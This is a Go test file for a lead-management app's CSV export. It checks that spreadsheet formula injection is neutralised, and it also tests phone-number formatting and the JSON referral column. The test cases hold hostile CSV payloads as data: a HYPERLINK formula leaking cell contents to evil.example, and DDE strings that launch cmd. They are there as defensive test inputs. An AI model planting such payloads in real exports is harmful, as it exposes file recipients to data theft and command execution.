package csvexport

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/uuid"

	"github.com/leadchat/leadchat/internal/lead"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Kovács Péter", "Kovács Péter"},
		{`=HYPERLINK("https://evil.example/?d="&A1,"Kattints")`, `'=HYPERLINK("https://evil.example/?d="&A1,"Kattints")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"+36 30 123 4567", "\u2060+36 30 123 4567"},
		{"+36301234567", "\u2060+36301234567"},
		{"+1 202 555 0143", "\u2060+1 202 555 0143"},
		{"+36 30 123 4567+cmd|' /C calc'!A0", "'+36 30 123 4567+cmd|' /C calc'!A0"},
		{"+36  30", "'+36  30"},
		{"+12345", "'+12345"},
		{"+1234567890123456", "'+1234567890123456"},
		{"-36 30 123 4567", "'-36 30 123 4567"},
		{"a=1", "a=1"},
		{" =1+1", " =1+1"},
		{"'already quoted", "'already quoted"},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriterRoundTrip(t *testing.T) {
	record := []string{"=1+1", "Kovács, Péter", "a \"quoted\"\nline", "@x", "plain", "-5"}
	orig := append([]string(nil), record...)
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.Write([]string{"a", "b", "c", "d", "e", "f"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(record); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(orig, record); diff != "" {
		t.Errorf("Write changed its argument (-before +after):\n%s", diff)
	}
	text, ok := strings.CutPrefix(buf.String(), BOM)
	if !ok {
		t.Fatalf("the file does not start with the UTF-8 BOM: %q", buf.String()[:8])
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"a", "b", "c", "d", "e", "f"}, {"'=1+1", "Kovács, Péter", "a \"quoted\"\nline", "'@x", "plain", "'-5"}}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
}

func TestLeadWriter(t *testing.T) {
	var empty bytes.Buffer
	if err := NewLeadWriter(&empty).Flush(); err != nil {
		t.Fatal(err)
	}
	header := BOM + "id,first_name,last_name,email,phone,phone_e164,service,details,source,referral_data,status,created_at," +
		"consent_marketing,consent_text,consent_privacy_url,consent_given_at,consent_source,name\n"
	if empty.String() != header {
		t.Errorf("an export of no lead = %q, want the header alone", empty.String())
	}

	l := lead.Stored{Status: lead.StatusWon, CreatedAt: time.Date(2024, 6, 1, 8, 30, 0, 0, time.FixedZone("CEST", 2*3600)),
		Lead: lead.Lead{ID: uuid.MustParse("01a20a68-ec0f-79c8-bead-6b6d4faf9a07"), FirstName: "=Péter", Email: "p@example.hu",
			Phone: "+36 30 123 4567", Note: "Tető, 120 m²", Source: lead.SourceForm, ReferralData: map[string]string{"utm_source": "google"}}}
	var buf bytes.Buffer
	w := NewLeadWriter(&buf)
	for range 2 {
		if err := w.Write(l); err != nil {
			t.Fatal(err)
		}
	}
	text, notice := "=Kérek híreket", "https://ceg.example/adatvedelem"
	l.Consent = &lead.Consent{Marketing: true, Text: &text, PrivacyURL: &notice, Source: lead.SourceForm,
		GivenAt: time.Date(2024, 6, 1, 8, 29, 0, 0, time.UTC)}
	if err := w.Write(l); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	row := `01a20a68-ec0f-79c8-bead-6b6d4faf9a07,'=Péter,,p@example.hu,` + "\u2060" + `+36 30 123 4567,,,"Tető, 120 m²",form,"{""utm_source"":""google""}",won,2024-06-01T06:30:00Z`
	consent := `,true,'=Kérek híreket,https://ceg.example/adatvedelem,2024-06-01T08:29:00Z,form` + "\n"
	consent = strings.TrimSuffix(consent, "\n") + ",'=Péter\n"
	l.FirstName, l.LastName = "Péter", "Kovács"
	if err := w.Write(l); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	hungarian := strings.Replace(row, "'=Péter,", "Péter,Kovács", 1) + strings.TrimSuffix(consent, ",'=Péter\n") + ",Kovács Péter\n"
	if diff := cmp.Diff(header+row+",,,,,,'=Péter\n"+row+",,,,,,'=Péter\n"+row+consent+hungarian, buf.String()); diff != "" ||
		strings.Count(buf.String(), BOM) != 1 {
		t.Errorf("export (-want +got):\n%s", diff)
	}
}

// phonePattern is what isPhone matches, as a regular expression.
var phonePattern = regexp.MustCompile(`^\+[0-9]( ?[0-9]){5,14}$`)

// isPhone matches what the regular expression does.
func FuzzIsPhone(f *testing.F) {
	for _, s := range []string{"+36 30 123 4567", "+36301234567", "+1234", "+12345", "+123456", "+1 2 3 4 5 6",
		"+1  23456", "+123456 ", "+ 123456", "+123456789012345", "+1234567890123456", "+36 30 123 456a", "+", "",
		"+٣٦٣٠١٢٣٤٥٦٧", "+36\t301234567", "36301234567"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := isPhone(s), phonePattern.MatchString(s); got != want {
			t.Errorf("isPhone(%q) = %v, the pattern says %v", s, got, want)
		}
	})
}

// The referral data column is what encoding/json writes of the map, whatever its texts.
func TestLeadWriterReferralDataIsEncodingJSONs(t *testing.T) {
	for _, m := range []map[string]string{{}, {"utm_source": "google"},
		{"b": "<script>&", "a": "\"idéző\"\\", "utm_campaign": "tavasz\u2028nyár", "z\x01": "\xff", "": ""}} {
		var buf bytes.Buffer
		w := NewLeadWriter(&buf)
		if err := w.Write(lead.Stored{Lead: lead.Lead{Source: lead.SourceForm, ReferralData: m}}); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), BOM))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		want, _ := json.Marshal(m)
		if got := rows[1][9]; got != Cell(string(want)) {
			t.Errorf("referral data %q, want %q", got, want)
		}
	}
}
